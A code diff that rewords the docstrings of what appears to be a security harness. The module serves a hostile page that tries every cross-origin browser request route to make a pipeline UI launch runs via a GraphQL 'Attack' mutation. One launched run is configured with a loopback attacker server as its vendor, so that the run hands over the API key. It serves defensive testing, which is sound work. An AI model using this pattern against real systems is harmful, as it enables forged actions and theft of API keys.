@@ -1,6 +1,6 @@
-"""A web page that tries to have a run launched by the UI, and an address that waits for the key. No test.
+"""A web page that tries to make the UI launch a run, and a server that waits for the API key. No test.
 
-Every way is tried by which a browser sends a request to another origin: images, frames, forms, `fetch`, beacons, links
+It tries every way in which a browser sends a request to another origin: images, frames, forms, `fetch`, beacons, links
 and WebSockets.
 """
 
@@ -17,7 +17,7 @@ MUTATION = """mutation Attack($plain: ExecutionParams!, $configured: ExecutionPa
   plain: launchPipelineExecution(executionParams: $plain) {__typename}
   configured: launchPipelineExecution(executionParams: $configured) {
     __typename ...on RunConfigValidationInvalid {errors {message}}}}"""
-"""All of it leaves something that can be seen: a symbol, and runs."""
+"""Each part would leave a trace: a symbol, and runs."""
 WAYS = 15
 
 _PAGE = """<!doctype html><title>hostile</title><body><script>
@@ -71,7 +71,7 @@ window.follow = () => { location = url; };
 
 
 class Hostile:
-    """A server of the attacker's on the loopback; a run that is configured to ask it would bring it the key.
+    """The attacker's server on loopback; a run configured with it as vendor would send it the key.
 
     Attributes:
         port: where it listens.
@@ -105,12 +105,12 @@ class Hostile:
         return Handler
 
     def aim(self, ui):
-        """Serve the page that attacks the UI at `ui`."""
+        """Serve a page that attacks the UI at `ui`."""
         told = {"ui": ui, "query": MUTATION, "variables": self.variables()}
         self.page = _PAGE % {name: json.dumps(value) for name, value in told.items()}
 
     def variables(self):
-        """What is launched: a month as it is, and one whose vendor is to be this server."""
+        """What is launched: a month as usual, and one with this server as vendor."""
         address = {"resources": {"massive": {"config": {"base_url": f"http://127.0.0.1:{self.port}"}}}}
         plain = {
             "selector": {**REPOSITORY, "pipelineName": "__ASSET_JOB", "assetSelection": [{"path": ["raw_1s"]}]},
